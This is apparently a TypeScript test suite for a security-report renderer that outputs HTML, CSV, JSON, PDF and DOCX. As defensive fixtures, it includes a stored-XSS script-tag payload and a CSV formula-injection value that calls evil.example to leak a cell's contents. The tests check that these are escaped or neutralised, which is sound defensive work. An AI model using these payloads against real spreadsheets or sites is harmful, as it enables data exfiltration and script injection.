import { expect } from 'chai';
import { unzipSync, strFromU8 } from 'fflate';
import { ReportIssue, ReportSnapshot } from '../domain/snapshot';
import { REPORT_FORMATS } from '@bulwark/contracts';
import { renderReport, reportFileType } from './index';
import { execFileSync } from 'node:child_process';
import { renderPdf } from './pdf';
import { buildCompliance } from '../domain/compliance';
import { breakOpportunities } from './wrap';
import { contentDisposition } from '../http/views';
import { chartPng } from './charts';
import { woffToSfnt } from './woff';
import { REPORT_TYPES } from '@bulwark/contracts';

const XSS_TITLE = 'Stored XSS: <script>alert(1)</script> & "quotes" in \'comments\'';
const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const COMMA_PATH = 'src/views/user,profile.tsx';
const CONFIRMED = 'Подтверждена';

const issue = (overrides: Partial<ReportIssue>): ReportIssue => ({
  id: '0b5a2a64-6f62-4a47-9d34-3f1f0a0c0001',
  project_code: 'WEBSHOP',
  tool_name: 'semgrep',
  category: 'SAST',
  title: 'Issue',
  severity: 'medium',
  status: 'New',
  cve: null,
  cwes: [],
  file_path: null,
  start_line: null,
  lib_name: null,
  lib_version: null,
  cvss: null,
  first_detected_at: '2025-02-03T10:15:00.000Z',
  last_detected_at: '2025-03-30T08:00:00.000Z',
  ...overrides,
});

const snapshot: ReportSnapshot = {
  report: {
    id: '7d1e8c1c-1111-4c1e-9a55-000000000042',
    name: 'Quarterly security summary',
    type: 'summary',
    author: 'alice@example.com',
    created_at: '2025-04-01T00:00:00.000Z',
    generated_at: '2025-04-01T00:04:30.000Z',
    period: 'quarter',
    from: '2025-01-01T00:00:00.000Z',
    to: '2025-04-01T00:00:00.000Z',
    project_codes: ['WEBSHOP', 'BILLING-API'],
  },
  totals: {
    issues: 1234,
    open: 57,
    by_severity: { critical: 3, high: 17, medium: 400, low: 800, info: 14 },
    by_status: [
      { status_id: 1, name: 'New', count: 40 },
      { status_id: 2, name: CONFIRMED, count: 17 },
      { status_id: 3, name: 'Fixed', count: 1177 },
    ],
  },
  projects: [
    {
      project_code: 'WEBSHOP',
      total: 1000,
      open: 50,
      open_by_severity: { critical: 3, high: 15, medium: 20, low: 10, info: 2 },
    },
    {
      project_code: 'BILLING-API',
      total: 234,
      open: 7,
      open_by_severity: { critical: 0, high: 2, medium: 5, low: 0, info: 0 },
    },
  ],
  tools: [
    { tool_name: 'semgrep', category: 'SAST', total: 900, open: 30 },
    { tool_name: 'trivy', category: 'SCA', total: 334, open: 27 },
  ],
  top_issues: [
    issue({
      id: '0b5a2a64-6f62-4a47-9d34-3f1f0a0c0002',
      severity: 'critical',
      title: XSS_TITLE,
      status: CONFIRMED,
      cwes: [79, 89],
      file_path: COMMA_PATH,
      start_line: 42,
      cvss: 9.8,
    }),
    issue({
      id: '0b5a2a64-6f62-4a47-9d34-3f1f0a0c0003',
      project_code: 'BILLING-API',
      tool_name: 'trivy',
      category: 'SCA',
      severity: 'high',
      title: FORMULA_TITLE,
      cve: 'CVE-2021-44228',
      cwes: [502],
      lib_name: 'log4j-core',
      lib_version: '2.14.1',
      cvss: 10,
    }),
    issue({
      id: '0b5a2a64-6f62-4a47-9d34-3f1f0a0c0004',
      title: 'Secret in history\r\nsecond line',
      severity: 'low',
      status: '-1 day',
    }),
  ],
  top_issues_limit: 3,
};

/** An RFC 4180 reader, so the test checks what a spreadsheet would actually see. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      record.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else if (char === '\r' || char === '\n') throw new Error(`bare line break outside quotes at ${i}`);
    else field += char;
  }
  if (field !== '' || record.length > 0) throw new Error('last record not ended by CRLF');
  return records;
}

/** The text of a PDF as poppler's pdftotext reads it (reading order, one string). */
function pdfText(pdf: Buffer): string {
  return execFileSync('pdftotext', ['-layout', '-', '-'], { input: pdf, maxBuffer: 64 * 1024 * 1024 }).toString('utf8');
}

/** Dark pixels in the top left of page 1 (where the title is), rendered by poppler's pdftoppm. */
function inkInTitle(pdf: Buffer): number {
  const pgm = execFileSync(
    'pdftoppm',
    ['-gray', '-r', '72', '-f', '1', '-l', '1', '-x', '30', '-y', '30', '-W', '300', '-H', '40', '-'],
    { input: pdf },
  );
  const header = pgm.toString('latin1').match(/^P5\s+\d+\s+\d+\s+\d+\s/)![0].length;
  return pgm.subarray(header).filter((value) => value < 128).length;
}

const CYRILLIC_TITLE = 'Отчёт о безопасности за квартал';
const CJK_TITLE = '季度安全报告';

/** A snapshot of every type at once: each renderer draws whichever sections a snapshot has. */
function typed(type: string, name: string): ReportSnapshot {
  const listed = snapshot.top_issues.map((i) => i.id);
  return {
    ...snapshot,
    report: { ...snapshot.report, type, name },
    details:
      type === 'detailed'
        ? Object.fromEntries(
            listed.map((id) => [
              id,
              {
                description: 'Описание: 描述 — user input reaches the query.\nSecond line.',
                remediation: 'Upgrade log4j-core to 2.17.1.',
                history: [
                  {
                    at: '2025-03-01T00:00:00.000Z',
                    actor: 'bob',
                    field: 'status',
                    old_value: 'New',
                    new_value: CONFIRMED,
                    comment: 'Проверено',
                  },
                ],
              },
            ]),
          )
        : undefined,
    compliance:
      type === 'compliance'
        ? buildCompliance([
            { cwes: [79, 89], severity: 'high', open: true, library: false, count: 4 },
            { cwes: [502], severity: 'critical', open: true, library: true, count: 2 },
            { cwes: [], severity: 'low', open: false, library: false, count: 1 },
          ])
        : undefined,
    trend:
      type === 'trend'
        ? {
            interval: 'day',
            points: [
              { start: '2025-03-01T00:00:00.000Z', end: '2025-03-02T00:00:00.000Z', opened: 5, fixed: 1, open: 4 },
              { start: '2025-03-02T00:00:00.000Z', end: '2025-03-03T00:00:00.000Z', opened: 2, fixed: 3, open: 3 },
            ],
            fix_times: [
              { severity: 'critical', fixed: 2, mean_days: 3.5 },
              { severity: 'high', fixed: 0, mean_days: null },
              { severity: 'medium', fixed: 0, mean_days: null },
              { severity: 'low', fixed: 0, mean_days: null },
              { severity: 'info', fixed: 0, mean_days: null },
            ],
          }
        : undefined,
  };
}

describe('report renderers', () => {
  it('renders every format with its content type and extension', async () => {
    const expected = {
      html: 'text/html; charset=utf-8',
      csv: 'text/csv; charset=utf-8',
      json: 'application/json; charset=utf-8',
      pdf: 'application/pdf',
      docx: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    };
    for (const format of REPORT_FORMATS) {
      const rendered = await renderReport(snapshot, format);
      expect(rendered.contentType, format).to.equal(expected[format]);
      expect(rendered.extension, format).to.equal(format);
      expect(rendered.body.length, format).to.be.greaterThan(0);
      expect(reportFileType(format)).to.deep.equal({ contentType: expected[format], extension: format });
    }
  });

  it('renders a report with nothing in it', async () => {
    const zero = { critical: 0, high: 0, medium: 0, low: 0, info: 0 };
    const empty: ReportSnapshot = {
      report: { ...snapshot.report, period: 'all', from: null, project_codes: [] },
      totals: { issues: 0, open: 0, by_severity: zero, by_status: [] },
      projects: [],
      tools: [],
      top_issues: [],
      top_issues_limit: 50,
    };
    const html = (await renderReport(empty, 'html')).body.toString('utf8');
    expect(html).to.include('<dd dir="auto">all (until 2025-04-01 00:00 UTC)</dd>');
    expect(html).to.include('<dd dir="auto">All projects visible to the author</dd>');
    expect(html).to.include('<p class="empty">No open issues.</p>');
    expect((await renderReport(empty, 'csv')).body.toString('utf8').split('\r\n')).to.have.length(2);
    expect(pdfText(await renderPdf(empty, { compress: true }))).to.include('No projects.');
    const xml = strFromU8(unzipSync(new Uint8Array((await renderReport(empty, 'docx')).body))['word/document.xml']);
    expect(xml).to.include('No tools.');
  });

  it('refuses a name that is not a format', async () => {
    let failure: unknown;
    await renderReport(snapshot, 'toString' as never).catch((error: unknown) => {
      failure = error;
    });
    expect(failure).to.be.instanceOf(Error).with.property('message', 'unknown report format: toString');
    expect(() => reportFileType('constructor' as never)).to.throw('unknown report format: constructor');
  });

  describe('json', () => {
    it('is the snapshot itself, indented by two spaces', async () => {
      const text = (await renderReport(snapshot, 'json')).body.toString('utf8');
      expect(JSON.parse(text)).to.deep.equal(snapshot);
      expect(text).to.match(/^\{\n {2}"report": \{\n {4}"id": /);
    });
  });

  describe('csv', () => {
    let text: string;
    let records: string[][];
    before(async () => {
      text = (await renderReport(snapshot, 'csv')).body.toString('utf8');
      records = parseCsv(text);
    });

    it('has the header and one row per top issue, CRLF-terminated and without a BOM', () => {
      expect(
        text.startsWith(
          'id,project_code,tool_name,category,severity,status,title,cve,cwes,file_path,start_line,' +
            'lib_name,lib_version,cvss,first_detected_at,last_detected_at\r\n',
        ),
      ).to.equal(true);
      expect(records).to.have.length(snapshot.top_issues.length + 1);
      for (const record of records) expect(record).to.have.length(16);
    });

    it('quotes fields with commas, quotes and line breaks, doubling the quotes', () => {
      expect(text).to.include(`,"${COMMA_PATH}",42,`);
      expect(text).to.include('"Stored XSS: <script>alert(1)</script> & ""quotes"" in \'comments\'"');
      const [, xss, , secret] = records;
      expect(xss[6]).to.equal(XSS_TITLE);
      expect(xss[9]).to.equal(COMMA_PATH);
      expect(secret[6]).to.equal('Secret in history\r\nsecond line');
    });

    it('keeps a spreadsheet from running cells as formulas, but leaves numbers alone', () => {
      const [, xss, formula, secret] = records;
      expect(formula[6]).to.equal(`'${FORMULA_TITLE}`);
      expect(secret[5]).to.equal("'-1 day");
      expect(xss[5]).to.equal(CONFIRMED);
      expect(xss[13]).to.equal('9.8');
      expect(formula[13]).to.equal('10');
      expect(xss[10]).to.equal('42');
      expect(formula[10]).to.equal('');
      expect(secret[13]).to.equal('');
    });

    it('writes CWEs, CVEs and nulls as plain values', () => {
      const [, xss, formula] = records;
      expect(xss[8]).to.equal('CWE-79;CWE-89');
      expect(xss[7]).to.equal('');
      expect(formula.slice(7, 13)).to.deep.equal(['CVE-2021-44228', 'CWE-502', '', '', 'log4j-core', '2.14.1']);
      expect(formula[14]).to.equal('2025-02-03T10:15:00.000Z');
    });
  });

  describe('html', () => {
    let html: string;
    before(async () => {
      html = (await renderReport(snapshot, 'html')).body.toString('utf8');
    });

    it('escapes text from the snapshot', () => {
      expect(html).to.include(
        'Stored XSS: &lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;quotes&quot; in &#39;comments&#39;',
      );
      expect(html).not.to.include('<script>alert');
      expect(html).not.to.match(/<script/i);
    });

    it('escapes scanned names inside its charts too', async () => {
      const hostile = { ...snapshot, top_issues: [issue({ lib_name: '<script>alert(1)</script>', cwes: [79] })] };
      const text = (await renderReport(hostile, 'html')).body.toString('utf8');
      expect(text).to.include('Top libraries of open issues');
      expect(text).to.include('&lt;script&gt;');
      expect(text).not.to.match(/<script/i);
    });

    it('is one document that loads nothing from elsewhere', () => {
      expect(html.startsWith('<!DOCTYPE html>')).to.equal(true);
      expect(html).to.include('<title>Quarterly security summary</title>');
      expect(html).not.to.match(/\b(src|href)=/i);
      // Only the charts' clip paths, which point inside the document.
      expect(html.match(/url\([^)]*\)/gi)?.every((u) => /^url\(#[\w-]+\)$/.test(u)) ?? true).to.equal(true);
    });

    it('shows the header, totals, every project and the issues', () => {
      for (const code of ['WEBSHOP', 'BILLING-API']) expect(html).to.include(`<td>${code}</td>`);
      expect(html).to.include('<span class="value">1,234</span><span class="label">Issues</span>');
      expect(html).to.include('<span class="value">57</span><span class="label">Open</span>');
      expect(html).to.include('<dd dir="auto">quarter (2025-01-01 00:00 UTC – 2025-04-01 00:00 UTC)</dd>');
      expect(html).to.include('<dd dir="auto">alice@example.com</dd>');
      expect(html).to.include(`<td>${CONFIRMED}</td>`);
      expect(html).to.include('<td>src/views/user,profile.tsx:42</td>');
      expect(html).to.include('<td>log4j-core@2.14.1</td>');
      // Ids keep their hyphens from being line breaks.
      expect(html).to.include('<td><span class="id">CWE-79</span>, <span class="id">CWE-89</span></td>');
      expect(html).to.include('<td><span class="id">CVE-2021-44228</span></td>');
      expect(html).to.include('<td class="number">9.8</td>');
      expect(html).to.include('3 of 57 open issues listed');
    });

    it('leaves out the listed-issues line when every open issue is listed', async () => {
      const complete = { ...snapshot, totals: { ...snapshot.totals, open: snapshot.top_issues.length } };
      const text = (await renderReport(complete, 'html')).body.toString('utf8');
      expect(text).not.to.include('open issues listed');
    });
  });

  describe('pdf', () => {
    it('is a complete PDF document', async () => {
      const pdf = (await renderReport(snapshot, 'pdf')).body;
      expect(pdf.subarray(0, 5).toString('latin1')).to.equal('%PDF-');
      expect(pdf.subarray(-7).toString('latin1')).to.match(/%%EOF\n?$/);
    });

    it('draws the report as text in every script, without cutting long values', async () => {
      const text = pdfText(await renderPdf(snapshot, { compress: true }));
      expect(text).to.include('Quarterly security summary');
      expect(text).to.include('BILLING-API');
      expect(text).to.include('Issues: 1,234');
      expect(text).to.include('3 of 57 open issues listed');
      expect(text).to.match(/Page 1 of \d+/);
      expect(text).to.include('log4j-core@2.14.1');
      expect(text).to.include('quarter (2025-01-01 00:00 UTC – 2025-04-01 00:00 UTC)');
      expect(text).to.include(CONFIRMED);
      expect(text).to.include('CVE-2021-44228');
      // The long title wraps inside its cell: every word of it is there, none replaced by an ellipsis.
      for (const word of ['Stored', 'XSS:', '<script>alert(1)<', '"quotes"', "'comments'"])
        expect(text).to.include(word);
      expect(text).not.to.include('…');
    });

    it('adds pages for long tables and numbers them', async () => {
      const many = Array.from({ length: 120 }, (_, index) =>
        issue({ id: `issue-${index}`, title: `Finding number ${index}` }),
      );
      const text = pdfText(await renderPdf({ ...snapshot, top_issues: many }, { compress: true }));
      const pages = [...text.matchAll(/Page \d+ of (\d+)/g)];
      expect(pages.length).to.be.greaterThan(2);
      expect(text).to.include(`Page ${pages.length} of ${pages.length}`);
      expect(text).to.include('Finding number 119');
      // The column headers are repeated on every page the issue table runs onto.
      expect(text.match(/First detected/g)!.length).to.be.greaterThan(1);
    });
  });

  it('draws the glyphs of a CJK title, not blanks', async () => {
    // pdftotext reads a font's character map, which is there even when its glyphs were embedded empty.
    const blank = inkInTitle(await renderPdf(typed('summary', ''), { compress: true }));
    const drawn = inkInTitle(await renderPdf(typed('summary', CJK_TITLE), { compress: true }));
    expect(drawn - blank).to.be.greaterThan(100);
  });

  describe('a right-to-left title with left-to-right ids and paths in it', () => {
    // "Vulnerability CVE-2021-44228 in the library at usr/lib/libssl.so": Arabic reads from the right,
    // so the first word is drawn rightmost and the Latin runs keep their own order inside the line.
    const MIXED_TITLE = 'ثغرة CVE-2021-44228 في المكتبة usr/lib/libssl.so';

    it('is drawn in the PDF in visual order, as the Unicode bidirectional algorithm orders it', async () => {
      const line = pdfText(await renderPdf(typed('summary', MIXED_TITLE), { compress: true }))
        .split('\n')
        .find((l) => l.includes('CVE-2021-44228'))!;
      // pdftotext -layout reads a line from left to right and writes each Arabic run in logical order.
      const positions = ['usr/lib/libssl.so', 'في المكتبة', 'CVE-2021-44228', 'ثغرة'].map((text) => {
        expect(line, text).to.include(text);
        return line.indexOf(text);
      });
      expect(positions).to.deep.equal([...positions].sort((a, b) => a - b));
    });

    it('is a right-to-left paragraph in DOCX, with its Arabic runs marked right to left and its Latin ones not', async () => {
      const xml = strFromU8(
        unzipSync(new Uint8Array((await renderReport(typed('summary', MIXED_TITLE), 'docx')).body))[
          'word/document.xml'
        ],
      );
      const title = xml.match(/<w:p>(?:(?!<\/w:p>).)*?w:val="Title"(?:(?!<\/w:p>).)*<\/w:p>/s)![0];
      expect(title).to.include('<w:bidi/>');
      const runs = [...title.matchAll(/<w:r>(.*?)<\/w:r>/gs)].map((r) => ({
        rtl: r[1].includes('<w:rtl/>'),
        text: [...r[1].matchAll(/<w:t[^>]*>([^<]*)<\/w:t>/g)].map((t) => t[1]).join('-'),
      }));
      expect(runs.find((r) => r.text.includes('ثغرة'))).to.include({ rtl: true });
      expect(runs.find((r) => r.text.includes('2021'))).to.include({ rtl: false });
      expect(runs.find((r) => r.text.includes('libssl'))).to.include({ rtl: false });
    });
  });

  describe('every type in every format', () => {
    for (const type of REPORT_TYPES) {
      for (const title of [CYRILLIC_TITLE, CJK_TITLE]) {
        it(`renders a ${type} report titled ${title}`, async () => {
          const report = typed(type, title);
          for (const format of REPORT_FORMATS) {
            const body = (await renderReport(report, format)).body;
            if (format === 'pdf') {
              const text = pdfText(body);
              expect(text, format).to.include(title);
              expect(text, format).to.include(CONFIRMED);
              if (type === 'detailed')
                expect(text).to.include('Upgrade log4j-core to 2.17.1.').and.include('Проверено');
              if (type === 'compliance')
                expect(text).to.include('A03:2021').and.include('Injection').and.include('#1 CWE-79');
              if (type === 'trend') expect(text).to.include('Mean time to fix').and.include('3.5');
            } else if (format === 'docx') {
              const files = unzipSync(new Uint8Array(body));
              expect(strFromU8(files['word/document.xml']), format).to.include(title);
              // Each chart is an SVG with a PNG beside it.
              expect(
                Object.keys(files).some((f) => f.endsWith('.svg')),
                format,
              ).to.equal(true);
              expect(
                Object.keys(files).some((f) => f.endsWith('.png')),
                format,
              ).to.equal(true);
            } else if (format === 'html') {
              const html = body.toString('utf8');
              expect(html).to.include(`<title>${title}</title>`);
              expect(html).to.include('<svg');
            } else if (format === 'json') {
              expect(JSON.parse(body.toString('utf8')).report.name).to.equal(title);
            } else {
              expect(body.toString('utf8')).to.include('CVE-2021-44228');
            }
          }
        });
      }
    }
  });

  it('wraps after spaces, path separators and CJK characters, never inside an id', () => {
    expect(breakOpportunities('See CVE-2021-44228 in src/a,b.ts?x=1&y=2')).to.deep.equal([
      'See ',
      'CVE-2021-44228 ',
      'in ',
      'src/',
      'a,',
      'b.ts?',
      'x=1&',
      'y=2',
    ]);
    expect(breakOpportunities('安全 report')).to.deep.equal(['安', '全 ', 'report']);
    expect(breakOpportunities('')).to.deep.equal([]);
  });

  it('names a download by its report, with an ASCII fallback', () => {
    expect(contentDisposition(CYRILLIC_TITLE, 'pdf')).to.equal(
      `attachment; filename="_ _ _ _ _.pdf"; filename*=UTF-8''${encodeURIComponent(`${CYRILLIC_TITLE}.pdf`)}`,
    );
    expect(contentDisposition('a/b\r\n"c".x', 'csv')).to.equal(
      `attachment; filename="a_b_c_.x.csv"; filename*=UTF-8''a_b_c_.x.csv`,
    );
    expect(contentDisposition('Q1 report', 'pdf')).to.equal(
      `attachment; filename="Q1 report.pdf"; filename*=UTF-8''Q1%20report.pdf`,
    );
  });

  describe('docx', () => {
    it("draws a chart's CJK and Cyrillic labels in the PNG that Word shows, not blanks", () => {
      // A missing glyph draws nothing or the same empty box for every character: two different
      // texts of the same length would then give the same image, byte for byte.
      const svg = (text: string) =>
        `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="40"><text x="4" y="28" font-family="DejaVu Sans" font-size="20">${text}</text></svg>`;
      for (const [title, other] of [
        [CJK_TITLE, '一二三四五六'],
        ['Отчёт', 'Жизнь'],
      ]) {
        expect(chartPng(svg(title), 1).equals(chartPng(svg(other), 1)), title).to.equal(false);
      }
    });

    it('unwraps a WOFF font into the TrueType file resvg reads, and refuses a malformed one', () => {
      expect(() => woffToSfnt(Buffer.from('wOF2 is another format'))).to.throw('not a WOFF file');
      const truncated = Buffer.alloc(44);
      truncated.writeUInt32BE(0x774f4646, 0);
      truncated.writeUInt16BE(3, 12);
      expect(() => woffToSfnt(truncated)).to.throw('out of bounds');
    });

    it('is a Word document holding the report', async () => {
      const docx = (await renderReport(snapshot, 'docx')).body;
      expect(docx.subarray(0, 2).toString('latin1')).to.equal('PK');
      const files = unzipSync(new Uint8Array(docx));
      const xml = strFromU8(files['word/document.xml']);
      expect(xml).to.include('Quarterly security summary');
      expect(xml).to.include('BILLING-API');
      expect(xml).to.include('Stored XSS: &lt;script&gt;alert(1)&lt;/script&gt; &amp;');
      expect(xml).not.to.include('<script>');
      expect(xml).to.include(CONFIRMED);
      expect(xml).to.include('3 of 57 open issues listed');
      expect(xml).to.match(/<w:pgSz [^>]*w:orient="landscape"/);
      // Word may break at a hyphen: CVE ids get non-breaking ones.
      expect(xml).to.match(
        /CVE<\/w:t>\s*<w:noBreakHyphen\/>\s*<w:t[^>]*>2021<\/w:t>\s*<w:noBreakHyphen\/>\s*<w:t[^>]*>44228/,
      );
    });
  });
});
